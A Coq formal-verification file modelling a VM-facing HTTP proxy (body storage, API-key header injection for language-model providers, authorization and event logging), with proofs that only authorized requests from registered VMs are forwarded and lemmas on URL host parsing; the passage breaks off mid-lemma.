(* ===== verification/HttpProxy.v ===== *)
(** clawpot-server/src/proxy/http_proxy.rs and body_store.rs: the HTTP proxy.  A
    request of a registered VM that the authorization service allows is forwarded
    to its host, with the server's API key when the host is a known provider's;
    requests and answers are logged and large bodies are kept in files.

    Header maps are lists of names and values in the order the [http] crate's map
    is iterated; names are lower case.  The [http] crate's checks and the network
    are parameters. *)

From S2P Require Import Prelude RustStr Addr World Json SimWorld Network Events.
From S2P Require Import Registry Service ProxyProtocol AuthClient Llm ProxyLog.
From Stdlib Require Import ZArith Lia Ascii String.
From Stdlib Require Import Strings.Byte.
From stdpp Require Import base gmap strings list.

Open Scope Z_scope.

(** * The body store *)

Inductive StoredBody : Type := Inline (bytes : list byte) | External (path : string).

Record BodyStore : Type := mkBodyStore { storage_dir : string; inline_threshold : Z }.

Definition DEFAULT_INLINE_THRESHOLD : Z := 64 * 1024.

Section store.
Context {W : Type} `{FileSystem W} `{Directories W}.

(** [BodyStore::new(storage_dir)] *)
Definition body_store_new (dir : string) : ST W (result BodyStore error) :=
  let! made := create_dir_all dir in
  match made with
  | Err e => ret (Err [("Failed to create body storage dir: " +:+ dir)%string; io_error_msg e])
  | Ok _ => ret (Ok (mkBodyStore dir DEFAULT_INLINE_THRESHOLD))
  end.

(** [store(&self, request_id, suffix, body)] *)
Definition store (bs : BodyStore) (request_id : Z) (suffix : string) (body : list byte) : ST W (result StoredBody error) :=
  if Z.of_nat (length body) <=? inline_threshold bs then ret (Ok (Inline body))
  else
    let path := path_join (storage_dir bs) (show_Z request_id +:+ "_" +:+ suffix +:+ ".bin") in
    let! written := write_file path (str_of_bytes body) in
    match written with
    | Err e => ret (Err [("Failed to write body to " +:+ path)%string; io_error_msg e])
    | Ok _ => ret (Ok (External path))
    end.

End store.

(** The path that is logged of a stored body. *)
Definition external_path (stored : result StoredBody error) : option string :=
  match stored with Ok (External p) => Some p | _ => None end.

(** * Requests and responses *)

Abbreviation header_map := (list (string * list byte)).

(** A request as hyper hands it to the service; [in_body] is what collecting the
    body returns. *)
Record IncomingRequest : Type := mkIncoming {
  in_method : string;
  in_path_and_query : option string;
  in_headers : header_map;
  in_body : result (list byte) string;
}.

Record UpstreamRequest : Type := mkUpstream {
  up_method : string;
  up_uri : string;
  up_headers : header_map;
  up_body : list byte;
}.

Record UpstreamResponse : Type := mkUpstreamResponse {
  ur_status : Z;
  ur_headers : header_map;
  ur_body : result (list byte) string;
}.

Record HttpResponse : Type := mkResponse { rs_status : Z; rs_headers : list (string * string); rs_body : list byte }.

(** The [http] crate: [HeaderValue::to_str], [str::parse::<Uri>], and whether a
    name and a value given as text make a header. *)
Class HttpCrate := {
  to_str : list byte -> option string;
  parse_uri : string -> result unit string;
  header_check : string -> string -> result unit string;
}.

(** [http_client.request(req)] *)
Class HttpUpstream (W : Type) := { http_request : UpstreamRequest -> ST W (result UpstreamResponse string) }.

(** The iteration order of a [HashMap<String, String>]. *)
Class StringMapOrder := {
  smap_iter : gmap string string -> list (string * string);
  smap_perm : forall m, smap_iter m ≡ₚ map_to_list m;
}.

Record ProxyCtx : Type := mkProxyCtx {
  body_store : BodyStore;
  auth : AuthClient;
  llm_keys : LlmKeyStore;
  use_tls_upstream : bool;
}.

Section metadata.
Context `{HttpCrate}.

(** [req.headers().get(name)]: the first value of that name *)
Definition header (name : string) (hs : header_map) : option (list byte) :=
  snd <$> (snd <$> list_find (fun kv : string * list byte => kv.1 = name) hs).

(** [headers.iter().map(...).collect::<HashMap<String, String>>()] *)
Definition headers_map (hs : header_map) : gmap string string :=
  fold_left (fun m '(k, v) => <[k := default EmptyString (to_str v)]> m) hs ∅.

Definition request_host (req : IncomingRequest) : string :=
  default "unknown"%string (header "host" (in_headers req) ≫= to_str).

Definition request_path (req : IncomingRequest) : string := default "/"%string (in_path_and_query req).

Definition request_url (ctx : ProxyCtx) (req : IncomingRequest) : string :=
  (if use_tls_upstream ctx then "https" else "http") +:+ "://" +:+ request_host req +:+ request_path req.

Definition request_body (req : IncomingRequest) : list byte := default [] (res_ok (in_body req)).

(** Is this header the one that the injected key replaces? *)
Definition stripped (det : option LlmDetection) (name : string) : bool :=
  match det ≫= strip_header with
  | Some strip => String.eqb (to_ascii_lowercase name) (to_ascii_lowercase strip)
  | None => false
  end.

(** The headers of the upstream request. *)
Definition upstream_headers (det : option LlmDetection) (hs : header_map) : header_map :=
  filter (fun kv : string * list byte => stripped det kv.1 = false) hs ++
  match det ≫= inject_header with
  | Some (name, value) => [(name, bytes_of_str value)]
  | None => []
  end.

(** Steps 6 to the request: parse the URL and build the request. *)
Definition build_upstream (det : option LlmDetection) (url : string) (req : IncomingRequest) : result UpstreamRequest error :=
  match parse_uri url with
  | Err e => Err [("Invalid upstream URL: " +:+ url)%string; e]
  | Ok _ =>
      let built := mkUpstream (in_method req) url (upstream_headers det (in_headers req)) (request_body req) in
      match det ≫= inject_header with
      | Some (name, value) =>
          match header_check name value with
          | Err e => Err ["Failed to build upstream request"%string; e]
          | Ok _ => Ok built
          end
      | None => Ok built
      end
  end.

Definition hop_by_hop (name : string) : bool :=
  let lower := to_ascii_lowercase name in
  (String.eqb lower "transfer-encoding" || String.eqb lower "connection")%bool.

(** Step 9: the response to the VM.  [unwrap] panics if a header is refused. *)
Definition relay_response (status : Z) (headers : list (string * string)) (body : list byte) : outcome HttpResponse :=
  let kept := filter (fun kv : string * string => hop_by_hop kv.1 = false) headers in
  if forallb (fun kv : string * string => is_ok (header_check kv.1 kv.2)) kept
  then Done (mkResponse status kept body)
  else Panic.

End metadata.

(** * The handler *)

Section handler.
Context {W : Type} `{FileSystem W} `{Clock W} `{Timestamps W} `{UuidGen W} `{UuidText} `{SerdeJson} `{HashOrder}
  `{AuthService W} `{HttpCrate} `{HttpUpstream W} `{StringMapOrder}.
Context (ctx : ProxyCtx).

(** [serde_json::to_string(&map).unwrap_or_default()] *)
Definition map_json (m : gmap string string) : string :=
  default EmptyString (res_ok (json_to_string (JObject (map (fun kv => (kv.1, JString kv.2)) (smap_iter m))))).

(** Step 3: keep the body and log the request. *)
Definition log_request (vm_id corr_id : string) (req : IncomingRequest) : ST (Server * W) unit :=
  let! stored := on_w (store (body_store ctx) 0 "req" (request_body req)) in
  do! on_events (emit "network.http.request" "network" (Some vm_id) (Some corr_id)
        (JObject [("method", JString (in_method req)); ("url", JString (request_url ctx req));
                  ("headers", JString (map_json (headers_map (in_headers req))));
                  ("req_body_size", jint (Z.of_nat (length (request_body req))));
                  ("req_body_path", jopt JString (external_path stored))]%string)) in
  ret tt.

(** Step 4: ask the authorization service and log its answer. *)
Definition authorize (vm_id corr_id : string) (req : IncomingRequest) : ST (Server * W) (bool * string) :=
  let! auth_start := on_w instant_now in
  let! answer := on_w (authorize_http (auth ctx) 0 vm_id (in_method req) (request_url ctx req)
                         (smap_iter (headers_map (in_headers req))) (request_body req)) in
  let '(allowed, reason) := match answer with Ok ar => ar | Err _ => (false, "auth error"%string) end in
  let! now := on_w instant_now in
  do! on_events (emit "network.http.authorized" "network" (Some vm_id) (Some corr_id)
        (JObject [("allowed", JBool allowed); ("reason", JString reason); ("latency_ms", jint (now - auth_start))]%string)) in
  ret (allowed, reason).

(** Steps 3 and 4. *)
Definition http_authorize (vm_id corr_id : string) (req : IncomingRequest) : ST (Server * W) (bool * string) :=
  do! log_request vm_id corr_id req in
  authorize vm_id corr_id req.

(** Step 5: the answer to a denied request. *)
Definition deny (start : Z) (vm_id corr_id reason : string) : ST (Server * W) HttpResponse :=
  let! now := on_w instant_now in
  do! on_events (emit_with_duration "network.http.response" "network" (Some vm_id) (Some corr_id) (now - start) (Some false)
        (JObject [("status_code", jint 403); ("resp_body_size", jint 0); ("duration_ms", jint (now - start))]%string)) in
  ret (mkResponse 403 [] (bytes_of_str ("Denied: " +:+ reason))).

(** Step 5b: log a request to a language-model provider. *)
Definition log_llm_request (det : option LlmDetection) (vm_id corr_id : string) (req : IncomingRequest) : ST (Server * W) unit :=
  match det with
  | None => ret tt
  | Some det =>
      let body_json := default JNull (res_ok (json_from_slice (request_body req))) in
      let '(model, message_count, streaming) := extract_request_summary (endpoint det) (request_body req) in
      do! on_events (emit "llm.request" "llm" (Some vm_id) (Some corr_id)
            (JObject [("provider", JString (provider det)); ("endpoint", JString (endpoint det));
                      ("model", jopt JString model); ("message_count", jopt (fun n => jint (Z.of_nat n)) message_count);
                      ("streaming", jopt JBool streaming); ("url", JString (request_url ctx req));
                      ("body", body_json)]%string)) in
      ret tt
  end.

(** Step 7: log its answer. *)
Definition log_llm_response (det : option LlmDetection) (vm_id corr_id : string) (duration_ms status : Z)
    (headers : gmap string string) (body : list byte) : ST (Server * W) unit :=
  match det with
  | None => ret tt
  | Some det =>
      let '(body_json, model, input_tokens, output_tokens) :=
        process_response (endpoint det) (headers !! "content-type"%string) body in
      do! on_events (emit_with_duration "llm.response" "llm" (Some vm_id) (Some corr_id) duration_ms
            (Some (is_success status))
            (JObject [("provider", JString (provider det)); ("endpoint", JString (endpoint det));
                      ("model", jopt JString model); ("input_tokens", jopt jint input_tokens);
                      ("output_tokens", jopt jint output_tokens); ("status_code", jint status);
                      ("body", body_json)]%string)) in
      ret tt
  end.

(** Steps 7 to 9, on the response of the upstream server. *)
Definition relay (start : Z) (det : option LlmDetection) (vm_id corr_id : string) (resp : UpstreamResponse)
  : ST (Server * W) (outcome HttpResponse) :=
  let status := ur_status resp in
  let resp_headers := headers_map (ur_headers resp) in
  let resp_body := default [] (res_ok (ur_body resp)) in
  let! now := on_w instant_now in
  let duration_ms := now - start in
  do! log_llm_response det vm_id corr_id duration_ms status resp_headers resp_body in
  let! stored := on_w (store (body_store ctx) 0 "resp" resp_body) in
  do! on_events (emit_with_duration "network.http.response" "network" (Some vm_id) (Some corr_id) duration_ms
        (Some (is_success status))
        (JObject [("status_code", jint status); ("resp_body_size", jint (Z.of_nat (length resp_body)));
                  ("resp_body_path", jopt JString (external_path stored));
                  ("resp_headers", JString (map_json resp_headers)); ("duration_ms", jint duration_ms)]%string)) in
  ret (relay_response status (smap_iter resp_headers) resp_body).

(** Step 6: forward the request. *)
Definition forward (start : Z) (vm_id corr_id : string) (req : IncomingRequest)
  : ST (Server * W) (outcome (result HttpResponse error)) :=
  let det := detect_llm_request (request_host req) (request_path req) (llm_keys ctx) in
  do! log_llm_request det vm_id corr_id req in
  match build_upstream det (request_url ctx req) req with
  | Err e => ret (Done (Err e))
  | Ok upstream_req =>
      let! answer := on_w (http_request upstream_req) in
      match answer with
      | Err e => ret (Done (Err ["Upstream request failed"%string; e]))
      | Ok resp =>
          st_map (fun o => match o with Done r => Done (Ok r) | Panic => Panic | NoFuel => NoFuel end)
            (relay start det vm_id corr_id resp)
      end
  end.

(** [handle_request_inner(req, peer_addr, ctx)] *)
Definition handle_request_inner (req : IncomingRequest) (peer_addr : SocketAddr)
  : ST (Server * W) (outcome (result HttpResponse error)) :=
  let! looked := proxy_lookup (sa_ip peer_addr) in
  let '(start, corr_id, found) := looked in
  match found with
  | None => ret (Done (Ok (mkResponse 403 [] (bytes_of_str "Unknown VM"))))
  | Some id =>
      let vm_id := uuid_string id in
      let! decision := http_authorize vm_id corr_id req in
      if negb decision.1
      then st_map (fun r => Done (Ok r)) (deny start vm_id corr_id decision.2)
      else forward start vm_id corr_id req
  end.

(** [handle_request(req, peer_addr, ctx)] *)
Definition handle_request (req : IncomingRequest) (peer_addr : SocketAddr) : ST (Server * W) (outcome HttpResponse) :=
  st_map (fun o =>
    match o with
    | Done (Ok r) => Done r
    | Done (Err e) => Done (mkResponse 502 [] (bytes_of_str ("Proxy error: " +:+ err_string e)))
    | Panic => Panic
    | NoFuel => NoFuel
    end) (handle_request_inner req peer_addr).

End handler.

(** * Connections *)

(** hyper's HTTP/1 server on a stream: the request it reads, and its writing of
    the response. *)
Class Http1 (R : Type) := {
  next_request : ST R (option IncomingRequest);
  send_response : HttpResponse -> ST R unit;
}.

Section connection.
Context {W R : Type} `{FileSystem W} `{Clock W} `{Timestamps W} `{UuidGen W} `{UuidText} `{SerdeJson} `{HashOrder}
  `{AuthService W} `{HttpCrate} `{HttpUpstream W} `{StringMapOrder} `{ByteSource R} `{Http1 R}.
Context (ctx : ProxyCtx).

Definition on_http {A} (m : ST (Server * W) A) : ST (Server * W * R) A :=
  fun '(s, r) => let '(a, s') := m s in (a, (s', r)).
Definition on_conn {A} (m : ST R A) : ST (Server * W * R) A :=
  fun '(s, r) => let '(a, r') := m r in (a, (s, r')).

(** The address a connection's requests are attributed to; [None] when the PROXY
    header cannot be read. *)
Definition effective_addr (peer_addr : SocketAddr) (proxy_protocol : bool) : ST (Server * W * R) (outcome (option SocketAddr)) :=
  if proxy_protocol then
    let! header := on_conn read_proxy_header in
    ret (match header with
         | Done (Ok ip) => Done (Some (mkSocketAddr ip (sa_port peer_addr)))
         | Done (Err _) => Done None
         | Panic => Panic
         | NoFuel => NoFuel
         end)
  else ret (Done (Some peer_addr)).

(** [serve_connection(stream, peer_addr, ctx, proxy_protocol)]: without keep-alive
    hyper serves one request. *)
Definition serve_connection (peer_addr : SocketAddr) (proxy_protocol : bool) : ST (Server * W * R) (outcome unit) :=
  let! addr := effective_addr peer_addr proxy_protocol in
  match addr with
  | Panic => ret Panic
  | NoFuel => ret NoFuel
  | Done None => ret (Done tt)
  | Done (Some addr) =>
      let! req := on_conn next_request in
      match req with
      | None => ret (Done tt)
      | Some req =>
          let! resp := on_http (handle_request ctx req addr) in
          match resp with
          | Done r => do! on_conn (send_response r) in ret (Done tt)
          | Panic => ret Panic
          | NoFuel => ret NoFuel
          end
      end
  end.

End connection.

(** * Properties *)

(** Requests sent upstream are in the log, files are not. *)
Class HttpTrace (W : Type) `{NetTrace W UpstreamRequest, HttpUpstream W, FileSystem W} := {
  log_http : forall r w, net_log (http_request r w).2 = net_log w ++ [Forwarded r];
  log_write : forall p c, keeps net_log (write_file p c);
}.

Section firewall.
Context {W : Type} `{FileSystem W} `{Clock W} `{Timestamps W} `{UuidGen W} `{UuidText} `{SerdeJson} `{HashOrder}
  `{AuthService W} `{HttpCrate} `{HttpUpstream W} `{StringMapOrder} `{!NetTrace W UpstreamRequest} `{!HttpTrace W}.
Context (ctx : ProxyCtx).

Lemma log_store bs rid suffix body : keeps net_log (store bs rid suffix body).
Proof.
  unfold store. case_match; [apply keeps_ret|]. apply keeps_bind; [apply log_write|]. intros [u|e]; apply keeps_ret.
Qed.
Hint Resolve log_store keeps_seen_bind : rs.

Lemma seen_log_request vm_id corr_id req : keeps seen (log_request ctx vm_id corr_id req).
Proof. unfold log_request. repeat (apply keeps_seen_bind; [eauto with rs|intros ?]). apply keeps_seen_ret. Qed.

Lemma seen_log_llm_request det vm_id corr_id req : keeps seen (log_llm_request ctx det vm_id corr_id req).
Proof.
  unfold log_llm_request. destruct det as [det|]; [|apply keeps_seen_ret].
  destruct (extract_request_summary _ _) as [[model count] streaming].
  apply keeps_seen_bind; [eauto with rs|intros ?]. apply keeps_seen_ret.
Qed.

Lemma seen_log_llm_response det vm_id corr_id d st hs body :
  keeps seen (log_llm_response (W := W) det vm_id corr_id d st hs body).
Proof.
  unfold log_llm_response. destruct det as [det|]; [|apply keeps_seen_ret].
  destruct (process_response _ _ _) as [[[body_json model] input] output].
  apply keeps_seen_bind; [eauto with rs|intros ?]. apply keeps_seen_ret.
Qed.

Lemma seen_deny start vm_id corr_id reason : keeps seen (deny (W := W) start vm_id corr_id reason).
Proof. unfold deny. repeat (apply keeps_seen_bind; [eauto with rs|intros ?]). apply keeps_seen_ret. Qed.
Hint Resolve seen_log_request seen_log_llm_request seen_log_llm_response seen_deny : rs.

Lemma seen_relay start det vm_id corr_id resp : keeps seen (relay ctx start det vm_id corr_id resp).
Proof. unfold relay. repeat (apply keeps_seen_bind; [eauto with rs|intros ?]). apply keeps_seen_ret. Qed.

(** The decision: events of an authorization, and the permission they show. *)
Lemma authorize_seen vm_id corr_id req (s : Server * W) :
  exists b reason evs s1, authorize ctx vm_id corr_id req s = ((b, reason), s1) /\
    seen s1 = ((seen s).1 ++ evs, (seen s).2) /\ nothing_forwarded evs /\
    (b = true -> allowed_by (auth ctx) vm_id
       (http_payload (in_method req) (request_url ctx req) (smap_iter (headers_map (in_headers req))) (request_body req)) evs).
Proof.
  unfold authorize. seen_next t s1 H1'.
  auth_next (authorize_http_trace (auth ctx) 0 vm_id (in_method req) (request_url ctx req)
    (smap_iter (headers_map (in_headers req))) (request_body req)) b reason evs s2 H2' Hn Hb.
  seen_next t2 s3 H3'. seen_next i s4 H4'. exists b, reason, evs, s4. split; [done|].
  by rewrite H4', H3', H2', H1'.
Qed.

(** Forwarding sends the request that was built, or fails before. *)
Lemma forward_seen start vm_id corr_id req (s : Server * W) :
  let det := detect_llm_request (request_host req) (request_path req) (llm_keys ctx) in
  let '(o, s') := forward ctx start vm_id corr_id req s in
  match build_upstream det (request_url ctx req) req with
  | Err e => o = Done (Err e) /\ seen s' = seen s
  | Ok up => seen s' = ((seen s).1 ++ [Forwarded up], (seen s).2)
  end.
Proof.
  intros det. unfold forward. fold det. seen_next u s1 H1'. destruct (build_upstream _ _ _) as [up|e]; [|by rewrite <- H1'].
  destruct s1 as [sv w]. unfold bind, on_w. pose proof (log_http up w) as Hl.
  assert (forall w', net_log w' = net_log w ++ [Forwarded up] ->
    seen (sv, w') = ((seen s).1 ++ [Forwarded up], (seen s).2)) as Hs by (intros w' E; rewrite <- H1'; unfold seen; simpl; by rewrite E).
  destruct (http_request up w) as [[resp|e] w1]; simpl in Hl; [|by apply Hs].
  pose proof (seen_relay start det vm_id corr_id resp (sv, w1)) as Hr. unfold st_map, bind, ret.
  destruct (relay ctx start det vm_id corr_id resp (sv, w1)) as [o s']. simpl in Hr. rewrite Hr. by apply Hs.
Qed.

Lemma http_authorize_seen vm_id corr_id req (s : Server * W) :
  exists b reason evs s1, http_authorize ctx vm_id corr_id req s = ((b, reason), s1) /\
    seen s1 = ((seen s).1 ++ evs, (seen s).2) /\ nothing_forwarded evs /\
    (b = true -> allowed_by (auth ctx) vm_id
       (http_payload (in_method req) (request_url ctx req) (smap_iter (headers_map (in_headers req))) (request_body req)) evs).
Proof.
  unfold http_authorize. seen_next u s1 H1'. destruct (authorize_seen vm_id corr_id req s1) as (b & reason & evs & s2 & -> & H2' & Ha).
  rewrite H1' in H2'. by exists b, reason, evs, s2.
Qed.

(** The request that is built is the one that was asked about. *)
Lemma build_upstream_as_authorized det url req up :
  build_upstream det url req = Ok up -> up_method up = in_method req /\ up_uri up = url /\ up_body up = request_body req.
Proof. unfold build_upstream. intros Hb. repeat case_match; simplify_eq; done. Qed.

(** The HTTP firewall: a request is sent upstream at most once, to the URL, with
    the method and the body that were authorized, and only if it comes from the
    address of a registered VM and, just before, the authorization service (when
    there is one) was asked about that VM, method, URL, headers and body and
    allowed them.  Every other request is answered 403 (or 502, when no request
    can be built from it) and nothing is sent. *)
Lemma http_forwards_only_authorized req peer (s : Server) (w : W) :
  let '(o, s') := handle_request ctx req peer (s, w) in
  exists evs,
    (net_log s'.2 = net_log w ++ evs /\ nothing_forwarded evs /\
     exists r, o = Done r /\ (rs_status r = 403 \/ rs_status r = 502)) \/
    (exists id up, net_log s'.2 = net_log w ++ evs ++ [Forwarded up] /\
       find_by_ip (sa_ip peer) (vm_registry s) = Some id /\
       up_method up = in_method req /\ up_uri up = request_url ctx req /\ up_body up = request_body req /\
       allowed_by (auth ctx) (uuid_string id)
         (http_payload (in_method req) (request_url ctx req) (smap_iter (headers_map (in_headers req))) (request_body req))
         evs).
Proof.
  set (s0 := (s, w)). change (net_log w) with (seen s0).1. change (vm_registry s) with (vm_registry s0.1).
  unfold handle_request, handle_request_inner, st_map at 1. rewrite <- bind_assoc. unfold bind at 1.
  destruct (proxy_lookup_seen (sa_ip peer) s0) as (t0 & c0 & s1 & -> & H1').
  destruct (find_by_ip (sa_ip peer) (vm_registry s0.1)) as [id|] eqn:Ef.
  2: { exists []. left. split; [|split; [intros x; set_solver|]].
       - rewrite app_nil_r. exact (f_equal fst H1').
       - eexists. by split; [|left]. }
  rewrite <- bind_assoc. unfold bind at 1.
  destruct (http_authorize_seen (uuid_string id) c0 req s1) as (b & reason & evs & s4 & -> & H4' & Hn & Hb).
  rewrite H1' in H4'. unfold bind. destruct b; cbn [negb fst snd].
  - pose proof (forward_seen t0 (uuid_string id) c0 req s4) as Hf. cbn zeta in Hf.
    destruct (forward ctx t0 (uuid_string id) c0 req s4) as [o s5].
    destruct (build_upstream _ _ req) as [up|e] eqn:Eb.
    + exists evs. right. exists id, up. split.
      { change ((seen s5).1 = (seen s0).1 ++ evs ++ [Forwarded up]). rewrite Hf, H4'. cbn [fst snd]. by rewrite <- app_assoc. }
      split; [done|]. destruct (build_upstream_as_authorized _ _ _ _ Eb) as (? & ? & ?). auto.
    + destruct Hf as [-> Hf]. exists evs. left. split; [|split; [done|]].
      * change ((seen s5).1 = (seen s0).1 ++ evs). by rewrite Hf, H4'.
      * eexists. by split; [|right].
  - pose proof (seen_deny t0 (uuid_string id) c0 reason s4) as Hd. unfold st_map, bind, ret.
    destruct (deny t0 (uuid_string id) c0 reason s4) as [r s5] eqn:Er. simpl in Hd.
    exists evs. left. split; [|split; [done|]].
    + change ((seen s5).1 = (seen s0).1 ++ evs). by rewrite Hd, H4'.
    + exists r. split; [done|]. left. unfold deny, bind, ret in Er. repeat case_match; simplify_eq; done.
Qed.

(** What a connection does to the network, when its requests are attributed to the
    address [ip]: nothing is sent, or the request that hyper reads from it, once,
    for the VM that has that address and with the permission for it. *)
Definition forwards_for {R} `{Http1 R} (ip : IpAddr) (reg : VmRegistry) (conn : R) (before after : list (net_event UpstreamRequest)) : Prop :=
  exists evs, (after = before ++ evs /\ nothing_forwarded evs) \/
    exists id req conn' up, next_request conn = (Some req, conn') /\ after = before ++ evs ++ [Forwarded up] /\
      find_by_ip ip reg = Some id /\
      up_method up = in_method req /\ up_uri up = request_url ctx req /\ up_body up = request_body req /\
      allowed_by (auth ctx) (uuid_string id)
        (http_payload (in_method req) (request_url ctx req) (smap_iter (headers_map (in_headers req))) (request_body req)) evs.

Section served.
Context {R : Type} `{ByteSource R} `{Http1 R}.

Lemma forwards_nothing ip reg (conn : R) l : forwards_for ip reg conn l l.
Proof. exists []. left. split; [by rewrite app_nil_r|]. intros x. by intros ?%elem_of_nil. Qed.

(** The part of [serve_connection] after the address is known. *)
Lemma served_forwards addr (s : Server) (w : W) (conn : R) :
  let '(_, (_, w', _)) :=
    (let! req := on_conn next_request in
     match req with
     | None => ret (Done tt)
     | Some req =>
         let! resp := on_http (handle_request ctx req addr) in
         match resp with
         | Done r => do! on_conn (send_response r) in ret (Done tt)
         | Panic => ret Panic
         | NoFuel => ret NoFuel
         end
     end) (s, w, conn) in
  forwards_for (sa_ip addr) (vm_registry s) conn (net_log w) (net_log w').
Proof.
  unfold bind at 1, on_conn at 1. destruct (next_request conn) as [[req|] conn1] eqn:En; [|apply forwards_nothing].
  unfold bind at 1, on_http. pose proof (http_forwards_only_authorized req addr s w) as Hh.
  destruct (handle_request ctx req addr (s, w)) as [o [s1 w1]]. simpl in Hh.
  assert (forwards_for (sa_ip addr) (vm_registry s) conn (net_log w) (net_log w1)) as Hf.
  { destruct Hh as (evs & [(Hl & Hn & _)|(id & up & Hl & Hrest)]); exists evs; [by left|right].
    exists id, req, conn1, up. split; [done|]. by split. }
  destruct o as [r| |]; [|done..]. unfold bind, on_conn, ret. by destruct (send_response r conn1).
Qed.

Lemma plain_connection_forwards peer (s : Server) (w : W) (conn : R) :
  let '(_, (_, w', _)) := serve_connection ctx peer false (s, w, conn) in
  forwards_for (sa_ip peer) (vm_registry s) conn (net_log w) (net_log w').
Proof. exact (served_forwards peer s w conn). Qed.

Lemma proxied_connection_forwards peer (s : Server) (w : W) (conn : R) :
  let '(_, (_, w', _)) := serve_connection ctx peer true (s, w, conn) in
  net_log w' = net_log w \/
  exists ip conn1, read_proxy_header conn = (Done (Ok ip), conn1) /\
    forwards_for ip (vm_registry s) conn1 (net_log w) (net_log w').
Proof.
  unfold serve_connection, effective_addr. rewrite <- bind_assoc. unfold bind at 1, on_conn at 1.
  destruct (read_proxy_header conn) as [[[ip|e]| |] conn1] eqn:Er; [|by left..].
  unfold bind at 1, ret at 1. pose proof (served_forwards (mkSocketAddr ip (sa_port peer)) s w conn1) as Hs.
  destruct ((let! req := on_conn next_request in _) _) as [o [[s' w'] c']]. right. by exists ip, conn1.
Qed.

End served.

End firewall.

Section headers.
Context `{HttpCrate}.

(** ** The host a URL is sent to *)

(** A URL is scheme://authority, then a path, a query or a fragment; the authority is
    an optional user information up to an at sign, a host and an optional port after a
    colon, and a host in brackets is an IPv6 address (RFC 3986, section 3.2). *)
Fixpoint upto (stop : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if stop c then EmptyString else String c (upto stop s')
  end.

Definition ends_authority (c : ascii) : bool :=
  (Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#")%char.

Fixpoint after_scheme (s : string) : string :=
  match RustStr.strip_prefix "://" s with
  | Some rest => rest
  | None => match s with String _ s' => after_scheme s' | EmptyString => EmptyString end
  end.

Fixpoint after_userinfo (s : string) : string :=
  if contains "@" s then match s with String _ s' => after_userinfo s' | EmptyString => EmptyString end else s.

Definition authority_host (authority : string) : string :=
  let host := after_userinfo authority in
  if starts_with "[" host then upto (fun c => Ascii.eqb c "]") host +:+ "]"
  else upto (fun c => Ascii.eqb c ":") host.

Definition url_host (url : string) : string := authority_host (upto ends_authority (after_scheme url)).

(** Text in which neither the user information nor the authority ends. *)
Definition plain_host (s : string) : bool :=
  forallb (fun c => negb (ends_authority c || Ascii.eqb c "@")) (list_ascii_of_string s).

(** A path that ends the authority before it; what [OPTIONS *] asks for does not. *)
Definition rooted (path : string) : bool :=
  match path with EmptyString => true | String c _ => ends_authority c end.

Example url_host_ex :
  url_host "https://user:pw@API.example:443/a@b" = "API.example"%string /\ url_host "http://[::1]:80?x" = "[::1]"%string.
Proof. split; reflexivity. Qed.

Lemma upto_all stop s r :
  forallb (fun c => negb (stop c)) (list_ascii_of_string s) = true ->
  match r with EmptyString => true | String c _ => stop c end = true -> upto stop (s +:+ r) = s.
Proof.
  intros Hs Hr. induction s as [|c s IH]; simpl in *.
  - destruct r as [|c r]; [done|]. simpl. by rewrite Hr.
  - apply andb_prop in Hs as [Hc Hs]. apply negb_true_iff in Hc. by rewrite Hc, IH.
Qed.

Lemma chars_app (f : ascii -> bool) a b :
  forallb f (list_ascii_of_string (a +:+ b)) =
  (forallb f (list_ascii_of_string a) && forallb f (list_ascii_of_string b))%bool.
Proof. induction a as [|c a IH]; simpl; [done|]. by rewrite IH, andb_assoc. Qed.

Lemma plain_authority s :
  plain_host s = true -> forallb (fun c => negb (ends_authority c)) (list_ascii_of_string s) = true.
Proof.
  unfold plain_host. rewrite !forallb_forall. intros Hs c Hc. specialize (Hs c Hc).
  apply negb_true_iff, orb_false_iff in Hs as [-> _]. done.
Qed.

Lemma plain_no_at s : plain_host s = true -> contains "@" s = false.
Proof.
  unfold plain_host. induction s as [|c s IH]; [done|]. cbn [list_ascii_of_string forallb contains].
  intros [Hc Hs]%andb_prop. rewrite IH by done. apply negb_true_iff, orb_false_iff in Hc as [_ Hc].
  unfold starts_with. cbn [RustStr.strip_prefix]. by rewrite Ascii.eqb_sym, Hc.
Qed.

Lemma after_userinfo_plain s : plain_host s = true -> after_userinfo s = s.
Proof. intros Hs. pose proof (plain_no_at s Hs) as Hc. destruct s as [|c s]; [done|]. simpl in *. by rewrite Hc. Qed.

Lemma contains_at a b : contains "@" (a +:+ "@" +:+ b) = true.
Proof. induction a as [|c a IH]; simpl; [done|]. simpl in IH. rewrite IH. apply orb_true_r. Qed.

Lemma after_userinfo_at a b : plain_host b = true -> after_userinfo (a +:+ "@" +:+ b) = b.
Proof.
  intros Hb. induction a as [|c a IH].
  - simpl. by rewrite after_userinfo_plain.
  - pose proof (contains_at (String c a) b) as Hc. simpl in *. by rewrite Hc.
Qed.

(** What the code takes for the host: the text before the first colon. *)
Lemma host_bare_upto host : host_bare host = upto (fun c => Ascii.eqb c ":") host.
Proof.
  unfold host_bare, split_str. enough ((split_aux ":" 0 host).1 = upto (fun c => Ascii.eqb c ":") host) as <-.
  { by destruct (split_aux ":" 0 host). }
  induction host as [|c host IH]; [done|]. cbn [split_aux upto]. unfold starts_with. cbn [RustStr.strip_prefix].
  rewrite Ascii.eqb_sym. destruct (Ascii.eqb c ":"); [by destruct (split_aux _ _ host)|].
  destruct (split_aux ":" 0 host) as [t ts]. simpl in *. by rewrite IH.
Qed.

(** No provider's name starts like an IPv6 address, whose colons are not a port's. *)
Lemma provider_not_bracketed p s : p ∈ PROVIDERS -> eq_ignore_ascii_case (String "[" s) (prov_host p) = false.
Proof. intros Hp. repeat (apply elem_of_cons in Hp as [-> |Hp]; [done|]). by apply not_elem_of_nil in Hp. Qed.

(** For a plain host, the code's reading of the host is right about the providers. *)
Lemma host_bare_right host p :
  plain_host host = true -> p ∈ PROVIDERS ->
  eq_ignore_ascii_case (authority_host host) (prov_host p) = eq_ignore_ascii_case (host_bare host) (prov_host p).
Proof.
  intros Hh Hp. unfold authority_host. rewrite after_userinfo_plain, host_bare_upto by done.
  destruct (starts_with "[" host) eqn:E; [|done]. destruct host as [|c host]; [done|]. unfold starts_with in E.
  cbn [RustStr.strip_prefix] in E. destruct (Ascii.eqb "[" c) eqn:Ec; [|done]. apply Ascii.eqb_eq in Ec as <-.
  etrans; [|symmetry]; apply (provider_not_bracketed p _ Hp).
Qed.

Lemma request_url_host ctx req :
